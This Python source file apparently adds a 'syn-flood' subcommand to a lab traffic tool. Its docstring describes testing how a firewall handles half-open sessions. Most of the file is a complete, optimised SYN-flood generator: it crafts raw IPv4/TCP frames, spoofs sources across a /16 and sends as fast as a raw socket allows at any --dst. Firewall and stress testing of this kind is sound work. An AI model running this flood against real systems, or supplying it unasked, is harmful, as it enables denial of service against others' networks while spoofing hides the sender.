"""syn-flood: TCP SYNs from spoofed sources, as fast as one raw socket goes
(or at --rate), bounded by --count and --seconds. Registered as a
subcommand of traffic.py (pair_traffic.add_commands); run it in the client
namespace only: every frame goes to the namespace's default route.

Each SYN is a new flow: the source address walks --src-net (a /16, hosts
.1-.254 of each /24) and the source port 1024-65535, so up to ~16 M SYNs
never repeat a 5-tuple. Nothing answers them: the lab drops the spoofed
sources behind the firewall, and the firewall sees a SYN and nothing more
(an embryonic session). The frames are built without scapy: a template IPv4
+ TCP header whose two checksums are adjusted for the changing source
address and port (RFC 1624), so the sender spends its time in sendto().

Prints one JSON line: sent, send errors by errno (ENOBUFS: the device queue
was full), elapsed seconds and the rate achieved.
"""
from __future__ import annotations

import errno
import ipaddress
import socket
import struct
import time

from traffic import emit, errno_name


def _fold(x: int) -> int:
    while x > 0xFFFF:
        x = (x & 0xFFFF) + (x >> 16)
    return x


def _sum16(b: bytes) -> int:
    return sum(struct.unpack(f"!{len(b) // 2}H", b))


def _template(dst: str, dport: int, src_base: int):
    """(header bytes with zero source low half and port, the two checksum
    sums without them): the per-SYN part is added to each sum."""
    dst_n = struct.unpack("!I", socket.inet_aton(dst))[0]
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0,
                     src_base, dst_n)
    tcp = struct.pack("!HHIIBBHHH", 0, dport, 0x1000, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!IIBBH", src_base, dst_n, 0, socket.IPPROTO_TCP, 20)
    return ip + tcp, _sum16(ip), _sum16(pseudo) + _sum16(tcp)


def cmd_syn_flood(a) -> int:
    net = ipaddress.ip_network(a.src_net)
    if net.prefixlen != 16 or net.version != 4:
        raise SystemExit("--src-net must be an IPv4 /16")
    base = int(net.network_address)
    frame, ip_sum, tcp_sum = _template(a.dst, a.port, base)
    buf = bytearray(frame)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (a.dst, 0)
    sent = 0
    errors: dict[str, int] = {}
    interval = 1.0 / a.rate if a.rate > 0 else 0.0
    t0 = time.monotonic()
    end = t0 + a.seconds
    next_check = 0
    port = 1024
    third, fourth = 0, 1
    pack_into = struct.pack_into
    send = sock.sendto
    while sent < a.count:
        if sent >= next_check:
            now = time.monotonic()
            if now >= end:
                break
            if interval:
                ahead = (t0 + sent * interval) - now
                if ahead > 0:
                    time.sleep(ahead)
            next_check = sent + (1 if interval else 256)
        lo = (third << 8) | fourth
        pack_into("!H", buf, 10, 0xFFFF - _fold(ip_sum + lo))
        pack_into("!H", buf, 14, lo)
        pack_into("!H", buf, 20, port)
        pack_into("!H", buf, 36, 0xFFFF - _fold(tcp_sum + lo + port))
        try:
            send(buf, target)
            sent += 1
        except OSError as e:
            name = errno_name(e)
            errors[name] = errors.get(name, 0) + 1
            if e.errno == errno.ENOBUFS:
                time.sleep(0.0002)
            elif sum(errors.values()) > 1000:
                break
        # next flow: host .1-.254 of each /24, then the next port
        fourth += 1
        if fourth == 255:
            fourth = 1
            third = (third + 1) & 0xFF
            if third == 0:
                port = port + 1 if port < 65535 else 1024
    elapsed = time.monotonic() - t0
    emit({"tool": "syn-flood", "dst": a.dst, "port": a.port, "src_net": a.src_net,
          "sent": sent, "errors": errors, "elapsed_s": round(elapsed, 3),
          "rate_pps": round(sent / elapsed) if elapsed > 0 else 0})
    return 0


def add_command(sub) -> None:
    p = sub.add_parser("syn-flood", help="TCP SYNs from spoofed sources, each a new flow")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--src-net", default="10.200.0.0/16", help="spoofed sources (a /16)")
    p.add_argument("--count", type=int, default=1_000_000, help="at most this many SYNs")
    p.add_argument("--seconds", type=float, default=10.0, help="at most this long")
    p.add_argument("--rate", type=float, default=0.0, help="SYNs per second, 0: as fast as it goes")
    p.set_defaults(fn=cmd_syn_flood)
